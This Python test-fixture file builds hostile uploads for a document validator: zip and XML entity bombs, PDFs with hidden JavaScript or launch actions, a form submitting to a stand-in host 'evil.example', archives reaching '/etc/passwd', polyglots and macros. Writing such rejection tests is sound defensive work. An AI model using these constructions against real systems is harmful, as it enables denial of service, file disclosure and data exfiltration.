"""Files that must never be looked at, and the reason that their sender is told."""

import struct
from zipfile import ZipInfo

import pikepdf

from aeo.domain.file_kinds import Rejection as R
from tests.corpus.making import (
    EICAR,
    NAME,
    OLE,
    SHEET,
    SHEET_MACRO,
    WORD_MACRO,
    archive,
    attachment,
    launch,
    office,
    opens_with,
    packed,
    pdf,
    picture,
    png_of,
    relations,
    script,
    with_entry,
)

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
ZIP = archive({"a.txt": "hello"})
ZEROS = b"\0" * (50 * 1024 * 1024)
SEALED = pikepdf.Encryption(owner="a", user="b")
OWNED = pikepdf.Encryption(owner="a", user="")
LINK = ZipInfo("word/link")
LINK.create_system, LINK.external_attr = 3, 0o120777 << 16
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'


def cut(content: bytes, part: float = 0.6) -> bytes:
    return content[: int(len(content) * part)]


def disguised(made) -> None:
    """``/JavaScript`` written as ``/J#61vaScript``: done below, in the bytes."""
    script(made)


def submits(made) -> None:
    opens_with(S=NAME.SubmitForm, F=pikepdf.String("http://evil.example/"))(made)


def on_a_page(made) -> None:
    """A page that runs a script when it is shown."""
    action = pikepdf.Dictionary(S=NAME.JavaScript, JS=pikepdf.String("app.alert(1)"))
    made.pages[0].AA = pikepdf.Dictionary(O=made.make_indirect(action))


def loops(made) -> None:
    """A page tree without a page."""
    made.Root.Pages.Kids = pikepdf.Array([])
    made.Root.Pages.Count = 0


def encrypted_zip() -> bytes:
    """An office file whose entries say that they need a password."""
    content = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 1)
    return bytes(content)


def lying_zip() -> bytes:
    """An office file whose directory claims far fewer bytes than an entry unpacks to."""
    content = bytearray(office(**{"word/media/a.bin": b"a" * 5000}))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<L", 10)
    return bytes(content)


def garbled() -> bytes:
    """An office file whose first entry, the list of types, does not unpack."""
    content = bytearray(office())
    at = content.find(b"[Content_Types].xml") + len("[Content_Types].xml")
    content[at : at + 8] = b"\xff" * 8
    return bytes(content)


def many_entries(count: int) -> bytes:
    return office(**{f"word/media/{number}.txt": "x" for number in range(count)})


def nested(depth: int) -> bytes:
    inner = office()
    for _level in range(depth):
        inner = office(**{"word/embeddings/inner.docx": inner})
    return inner


# name, content, the reason given
HOSTILE = [
    ("Nothing.pdf", b"", R.EMPTY),
    ("Words.pdf", b"This is no PDF.", R.NOT_A_KIND),
    ("Page.html", HTML, R.NOT_A_KIND),
    ("Page.pdf", HTML, R.NOT_A_KIND),
    ("Drawing.svg", SVG, R.NOT_A_KIND),
    ("Drawing.png", SVG, R.NOT_A_KIND),
    ("Archive.zip", ZIP, R.NOT_A_KIND),
    ("Archive.docx", ZIP, R.NOT_A_KIND),
    ("Program.exe", b"MZ\x90\x00" + b"\0" * 400, R.NOT_A_KIND),
    ("Program.pdf", b"\x7fELF" + b"\0" * 400, R.NOT_A_KIND),
    ("Animation.gif", picture("GIF"), R.NOT_A_KIND),
    ("Scan.tiff", picture("TIFF"), R.NOT_A_KIND),
    ("Junk first.pdf", b"GIF89a" + pdf(), R.NOT_A_KIND),
    ("Mark.txt", EICAR, R.NOT_A_KIND),
    ("Mark.pdf", pdf() + EICAR, R.HARMFUL),
    ("Mark inside.docx", office(**{"word/media/image1.png": EICAR}), R.HARMFUL),
    (
        "Mark two levels down.docx",
        office(**{"word/embeddings/a.docx": office(**{"word/x.bin": EICAR})}),
        R.HARMFUL,
    ),
    ("Mark far inside.pdf", pdf() + b"%" + b" " * (3 * 1024 * 1024) + EICAR, R.HARMFUL),
    ("Old.doc", OLE + b"\0" * 600, R.OLD_OFFICE),
    ("Sealed.docx", OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), R.PROTECTED),
    ("Password.pdf", pdf(encryption=SEALED), R.PROTECTED),
    ("Password.docx", encrypted_zip(), R.PROTECTED),
    ("Cut.pdf", cut(pdf(5)), R.DAMAGED),
    ("Cut linear.pdf", cut(pdf(30, linearize=True), 0.9), R.DAMAGED),
    ("Head only.pdf", b"%PDF-1.7\n", R.DAMAGED),
    ("Nonsense.pdf", b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF\n", R.DAMAGED),
    ("No page.pdf", pdf(1, loops), R.DAMAGED),
    ("Cut.jpg", cut(picture("JPEG")), R.DAMAGED),
    ("Cut.png", cut(picture("PNG")), R.DAMAGED),
    ("Head only.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, R.DAMAGED),
    ("Cut.docx", cut(office(), 0.9), R.DAMAGED),
    ("Lying.docx", lying_zip(), R.DAMAGED),
    ("Garbled.docx", garbled(), R.DAMAGED),
    ("Climbs.docx", office(**{"../../etc/passwd": "root"}), R.DAMAGED),
    ("Symbolic link.docx", with_entry(office(), LINK, b"/etc/passwd"), R.DAMAGED),
    ("Script.pdf", pdf(1, script), R.ACTIVE),
    ("Script packed.pdf", packed(1, script), R.ACTIVE),
    ("Script locked.pdf", packed(1, script, encryption=OWNED), R.ACTIVE),
    ("Script in disguise.pdf", pdf(1, script).replace(b"/JavaScript", b"/J#61vaScript"), R.ACTIVE),
    ("Script of a page.pdf", packed(1, on_a_page), R.ACTIVE),
    ("Starts.pdf", pdf(1, launch), R.ACTIVE),
    ("Starts packed and locked.pdf", packed(1, launch, encryption=OWNED), R.ACTIVE),
    ("Sends.pdf", packed(1, submits), R.ACTIVE),
    (
        "Template elsewhere.docx",
        office(**{"word/_rels/settings.xml.rels": relations("attachedTemplate")}),
        R.ACTIVE,
    ),
    (
        "Object elsewhere.docx",
        office(**{"word/_rels/document.xml.rels": relations("oleObject")}),
        R.ACTIVE,
    ),
    ("Attachment.pdf", pdf(1, attachment), R.EMBEDDED),
    ("Attachment packed.pdf", packed(1, attachment), R.EMBEDDED),
    ("Object.docx", office(**{"word/embeddings/oleObject1.bin": OLE}), R.EMBEDDED),
    (
        "Program inside.docx",
        office(**{"word/media/image1.png": b"MZ\x90\x00" + b"\0" * 99}),
        R.EMBEDDED,
    ),
    ("Too deep.docx", nested(3), R.EMBEDDED),
    ("Macro.docm", office(WORD_MACRO, **{"word/vbaProject.bin": OLE}), R.MACRO),
    ("Macro.docx", office(WORD_MACRO), R.MACRO),
    ("Macro.xlsm", office(SHEET_MACRO), R.MACRO),
    ("Macro without a type.docx", office(**{"word/vbaProject.bin": OLE}), R.MACRO),
    ("Old macro.xlsx", office(SHEET, **{"xl/macrosheets/sheet1.xml": "<x/>"}), R.MACRO),
    ("Zip behind.pdf", pdf() + ZIP, R.TWO_IN_ONE),
    ("Page behind.pdf", pdf() + HTML, R.TWO_IN_ONE),
    (
        "Page inside.pdf",
        pdf().replace(b"%PDF-", b"%PDF-", 1)[:9] + b"\n%" + HTML + pdf()[9:],
        R.TWO_IN_ONE,
    ),
    ("Zip behind.png", picture("PNG") + ZIP, R.TWO_IN_ONE),
    ("Zip behind.jpg", picture("JPEG") + ZIP, R.TWO_IN_ONE),
    ("Page behind.png", picture("PNG") + HTML, R.TWO_IN_ONE),
    ("PDF behind.jpg", picture("JPEG") + pdf(), R.TWO_IN_ONE),
    ("Rubbish behind.pdf", pdf() + b"\x00\xff" * 4000, R.TWO_IN_ONE),
    ("Bomb.docx", office(**{"word/media/zeros.bin": ZEROS}), R.BOMB),
    (
        "Bomb inside.docx",
        office(**{"word/embeddings/a.docx": office(**{"word/z.bin": ZEROS})}),
        R.BOMB,
    ),
    ("Crowd.docx", many_entries(1200), R.BOMB),
    ("Laughs.docx", office(**{"word/settings.xml": LAUGHS}), R.BOMB),
    ("Huge.png", png_of(60_000, 60_000), R.BOMB),
    ("Wide.png", png_of(9_000, 9_000), R.BOMB),
]
